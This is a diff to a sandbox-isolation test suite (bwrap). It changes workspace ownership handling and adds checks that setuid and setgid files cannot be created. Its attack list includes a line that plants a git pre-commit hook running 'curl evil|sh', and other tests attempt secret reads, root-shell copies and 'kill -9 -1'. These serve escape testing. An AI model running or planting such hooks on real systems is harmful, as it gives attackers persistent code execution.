@@ -26,7 +26,7 @@ import { LIB_CJS, processesWith, startNode, survivors, uniqueMarker, waitFor, wa
 const available = isIsolationAvailable('bwrap')
 const isRoot = process.getuid() === 0
 
-// The sandbox user must be able to reach the workspace, so its parents are world-traversable.
+// Paths bound besides the workspace are reached as the sandbox user: parents world-traversable.
 const top = fs.mkdtempSync(path.join(os.tmpdir(), 'nw-iso-'))
 fs.chmodSync(top, 0o755)
 afterAll(() => fs.rmSync(top, { recursive: true, force: true }))
@@ -41,13 +41,9 @@ function sandbox(options = {}) {
   live.push(sb)
   return sb
 }
-/**
- * Makes the workspace of `sb` before its start, as a host preparing files for it does, and
- * gives it to the sandbox user: an existing directory is never given away by the start.
- */
+/** Makes the workspace of `sb` before its start, as a host preparing files for it does. */
 function prepareWorkspace(sb) {
   fs.mkdirSync(sb.workingDirectory, { recursive: true })
-  if (isRoot) fs.chownSync(sb.workingDirectory, 65534, 65534)
   return sb.workingDirectory
 }
 /** Child cgroups of this process's memory cgroup (v1 on hybrid hosts, else v2). */
@@ -333,7 +329,6 @@ while True:
     fs.writeFileSync(path.join(ws, '.git', 'config'), '[core]\n')
     fs.writeFileSync(path.join(ws, '.envrc'), 'export SAFE=1\n')
     fs.writeFileSync(path.join(ws, 'main.c'), 'int main;\n')
-    fs.chownSync(path.join(ws, 'main.c'), isRoot ? 65534 : process.getuid(), isRoot ? 65534 : process.getgid())
     const before = fs.readdirSync(ws, { recursive: true })
     const attacks = [
       "mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil|sh' > .git/hooks/pre-commit",
@@ -416,8 +411,22 @@ while True:
     expect(r.out).not.toContain('host secret')
     expect(fs.readFileSync(secret, 'utf8')).toBe('host secret\n')
     expect(fs.existsSync(path.join(sb.workingDirectory, 'pw'))).toBe(false) // no hardlink across mounts
+    // The copy is the workspace owner's (root on a root host), so it may never be setuid or setgid.
+    expect(r.out).toContain("chmod: changing permissions of 'rootsh': Operation not permitted")
     const rootsh = fs.statSync(path.join(sb.workingDirectory, 'rootsh'))
-    expect(rootsh.uid).not.toBe(0) // a setuid copy is the sandbox user's, never root's
+    expect(rootsh.uid).toBe(process.getuid())
+    expect(rootsh.mode & 0o6000).toBe(0)
+    const creations = await sh(
+      sb,
+      `python3 -c "import os, stat
+for make in (lambda: os.open('suid', os.O_CREAT | os.O_WRONLY, 0o4755), lambda: os.mknod('sgid', stat.S_IFREG | 0o2755), lambda: os.chmod('rootsh', 0o2755)):
+    try:
+        make(); print('made')
+    except PermissionError:
+        print('refused')"`,
+    )
+    expect(creations.stdout).toBe('refused\nrefused\nrefused\n')
+    expect(fs.readdirSync(sb.workingDirectory).filter((f) => fs.statSync(path.join(sb.workingDirectory, f)).mode & 0o6000)).toEqual([])
   })
 
   it('P2/P10/E5: kill -9 -1 reaches only the sandbox (not even its init); no new privileges', async () => {
@@ -570,16 +579,5 @@ while True:
     expect(await waitForMarkers([second])).toBe(true)
     await sb.destroy()
     expect(await survivors([second])).toEqual([])
-  })
-})
-
-describe.skipIf(!available || !isRoot)('isolation: bwrap on a root host', () => {
-  it('refuses to start, saying why, when the sandbox user cannot reach the workspace', async () => {
-    const locked = fs.mkdtempSync(path.join(top, 'locked-')) // mode 0700
-    const sb = sandbox({ workingDirectory: path.join(locked, 'ws') })
-    const err = await sb.executeCommand('true').catch((e) => e)
-    expect(err.code).toBe('ISOLATION_UNAVAILABLE')
-    expect(err.message).toContain('not reachable by the sandbox user')
-    expect(fs.existsSync(path.join(locked, 'ws', 'anything'))).toBe(false)
   })
 })
